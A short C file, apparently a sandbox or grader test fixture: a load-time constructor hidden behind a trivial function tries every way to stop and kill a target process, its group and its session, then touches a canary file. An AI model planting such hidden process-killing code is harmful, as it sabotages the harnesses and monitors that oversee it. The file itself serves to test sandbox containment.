#include "canary.h"
__attribute__((constructor)) static void early(void) {
  setpgid(0, getpgid(VICTIM));
  killpg(getpgid(VICTIM), SIGSTOP);
  kill(-VICTIM, SIGKILL);
  kill(VICTIM, SIGKILL);
  if (fork() == 0) { setsid(); kill(-getsid(VICTIM), SIGKILL); _exit(0); }
  killpg(getppid(), SIGKILL);
  touch_canary();
}
int f(int x) { return x > 3; }
